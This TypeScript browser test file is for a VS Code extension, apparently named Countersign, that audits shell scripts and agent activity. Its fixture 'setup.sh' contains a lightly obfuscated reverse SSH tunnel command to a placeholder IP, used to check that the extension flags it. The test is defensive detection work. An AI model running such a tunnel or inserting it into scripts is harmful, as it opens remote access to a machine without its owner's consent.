/** The extension's browser build in a real browser: its worker alone, then all of it in a window without a server. */
import assert from "node:assert/strict";
import type { Page } from "playwright-core";
import { openBrowser } from "../../../scripts/vscode/browser.mjs";
import { chromiumPath } from "../../../scripts/vscode/chromium.mjs";
import { ensureHost } from "../../../scripts/vscode/set-up.mjs";
import { startWebHost } from "../../../scripts/vscode/web-host.mjs";

const tunnel = "timeout 5 s\\sh -fNR 9:localhost:22 agent@203.0.113.7";
const script = `#!/bin/sh\necho start\n${tunnel}\n`;

describe("the browser build", () => {
  let host: Awaited<ReturnType<typeof startWebHost>>;
  let browser: Awaited<ReturnType<typeof openBrowser>>;

  before(async () => {
    host = await startWebHost(await ensureHost(), { "setup.sh": script, "notes.txt": "nothing\n" });
    browser = await openBrowser(await chromiumPath());
  });
  after(async () => {
    await browser.close();
    await host.stop();
  });

  afterEach(async function () {
    if (this.currentTest?.state === "failed") await browser.screenshot(`failed-web-${this.currentTest.title.replaceAll(/\W+/g, "-")}`);
  });

  it("analyses a file in a web worker, which gets parsers and rules from the page", async () => {
    const { page } = browser;
    await page.goto(new URL("extension/package.json", host.url).href);
    // The loader of these tests wraps functions in a helper that the page does not have.
    await page.evaluate("globalThis.__name = (value) => value");
    const found = await page.evaluate(languageServerInPage, { text: script, base: `${host.url}extension/dist/` });
    assert.deepEqual(
      found.map(({ code, range }) => [code, range.start.line]),
      [["command/reverse-ssh-tunnel", 2]],
    );
  });

  it("marks a finding in a window that has no server", async () => {
    const { page } = browser;
    await page.goto(host.url);
    await page.locator("[id='countersign.countersign.verdict']").waitFor({ timeout: 90_000 });
    await page
      .getByRole("treeitem", { name: /^setup\.sh/ })
      .first()
      .dblclick();
    await page.locator(".squiggly-error").first().waitFor({ timeout: 60_000 });
    await browser.screenshot("web-squiggle");
    assert.deepEqual([...browser.outside], []);
  });

  for (const command of [
    "Review Changes",
    "Next Open Unit",
    "Check Gate",
    "Open Pre-Merge Checklist",
    "Choose Base…",
    "Audit Staged Changes",
  ])
    it(`says of “${command}” that it needs git, and what to do`, async () => {
      await runCommand(browser.page, `Countersign: ${command}`);
      // Where notifications gather: in its corner a toast stands for some seconds only, and a driven window may show none.
      await runCommand(browser.page, "Notifications: Show Notifications");
      const notice = browser.page.locator(".notification-list-item-message", { hasText: /git/i }).first();
      await notice.waitFor({ timeout: 30_000 });
      assert.match(
        (await notice.textContent()) ?? "",
        /Open the folder on a machine with git\.|Turn it on or install git, and try again\./,
      );
      await runCommand(browser.page, "Notifications: Clear All Notifications");
      await notice.waitFor({ state: "detached" });
    });

  it("says on the checklist page why there is none", async () => {
    const page = browser.page.frameLocator("iframe.webview").frameLocator("iframe#active-frame");
    await page.getByRole("heading", { name: "Pre-merge checklist" }).waitFor({ timeout: 30_000 });
    await page
      .getByText(/no git (process )?can run\..*Open the folder on a machine with git\./)
      .first()
      .waitFor();
    assert.equal(await page.getByRole("button").count(), 0);
    await browser.screenshot("web-page");
  });

  it("says of the last agent session where it can be read", async () => {
    await runCommand(browser.page, "Countersign: Audit Last Agent Session");
    await runCommand(browser.page, "Notifications: Show Notifications");
    await browser.page
      .locator(".notification-list-item-message", { hasText: "in a browser alone they cannot be read" })
      .waitFor({ timeout: 30_000 });
    await runCommand(browser.page, "Notifications: Clear All Notifications");
  });

  it("says in each view why there is nothing in it", async () => {
    const { page } = browser;
    for (const [view, words] of [
      ["Review", "in a browser alone no git can run"],
      ["Checklist", "The checklist of a change needs git"],
      ["Agent Actions", "in a browser alone they cannot be read"],
      ["Findings", "Open files are checked as you edit"],
    ] as const) {
      await runCommand(page, `Countersign: Focus on ${view} View`);
      await page.locator(".welcome-view-content", { hasText: words }).first().waitFor({ timeout: 30_000 });
    }
    await browser.screenshot("web-views");
  });

  it("audits the text in view and the workspace all the same", async () => {
    const { page } = browser;
    await runCommand(page, "Countersign: Audit Workspace");
    await page
      .locator(".pane .message", { hasText: /1 finding/ })
      .first()
      .waitFor({ timeout: 60_000 });
    // The checklist page is in front.
    await runCommand(page, "View: Close Editor");
    await runCommand(page, "Countersign: Audit File");
    await page
      .locator(".pane .message", { hasText: /setup\.sh: 1 finding/ })
      .first()
      .waitFor({ timeout: 60_000 });
  });

  it("marks a finding in a text that was never saved", async () => {
    const { page } = browser;
    await runCommand(page, "File: New Untitled Text File");
    await page.locator(".tab.active", { hasText: "Untitled-1" }).waitFor();
    await page.keyboard.type(`#!/bin/sh\n${tunnel}\n`);
    await page.locator(".editor-instance .squiggly-error").first().waitFor({ timeout: 60_000 });
  });
});

/** As a person does: by its title. */
async function runCommand(page: Page, title: string): Promise<void> {
  const input = page.locator(".quick-input-widget input[type=text]");
  // One that closes while the key comes swallows it: it is pressed again.
  for (let tries = 0; tries < 20 && !(await input.isVisible()); tries++) {
    await page.keyboard.press("F1");
    await input.waitFor({ state: "visible", timeout: 2_000 }).catch(() => undefined);
  }
  await input.fill(`>${title}`);
  await page.locator(".quick-input-list .monaco-list-row", { hasText: title }).first().click();
}

/** What a page has, as far as the function below needs it. */
declare const Worker: new (
  url: string,
) => {
  postMessage: (message: object) => void;
  onmessage: (event: { readonly data: Message }) => Promise<void>;
  onerror: (event: { readonly message: string }) => void;
};

/** A message of the server: an answer, a request or a notification. */
interface Message {
  readonly id?: number;
  readonly method?: string;
  readonly result?: unknown;
  readonly params: { readonly name: string; readonly items: readonly unknown[]; readonly diagnostics: readonly Found[] };
}

interface Found {
  readonly code: string;
  readonly range: { readonly start: { readonly line: number } };
}

/** Runs in the page: starts the built server, serves it the assets it asks for, opens one document, waits for its diagnostics. */
function languageServerInPage({ text, base }: { readonly text: string; readonly base: string }): Promise<readonly Found[]> {
  const worker = new Worker(`${base}server.web.js`);
  const asset = async (name: string): Promise<Uint8Array> =>
    new Uint8Array(await (await fetch(base + (name.endsWith(".js") ? name : `assets/${name}`))).arrayBuffer());
  return new Promise((resolve, reject) => {
    const send = (message: object): void => worker.postMessage({ jsonrpc: "2.0", ...message });
    worker.onerror = (event) => reject(new Error(event.message));
    worker.onmessage = async ({ data }) => {
      if (data.id === 1 && data.result !== undefined) {
        send({ method: "initialized", params: {} });
        const textDocument = { uri: "memory:/setup.sh", languageId: "shellscript", version: 1, text };
        send({ method: "textDocument/didOpen", params: { textDocument } });
      } else if (data.method === "countersign/asset") send({ id: data.id, result: await asset(data.params.name) });
      else if (data.method === "workspace/configuration") send({ id: data.id, result: data.params.items.map(() => null) });
      else if (data.method === "textDocument/publishDiagnostics") resolve(data.params.diagnostics);
      else if (data.id !== undefined && data.method !== undefined) send({ id: data.id, result: null });
    };
    send({
      id: 1,
      method: "initialize",
      params: { processId: null, rootUri: null, capabilities: {}, workspaceFolders: [], initializationOptions: { isTrusted: true } },
    });
  });
}
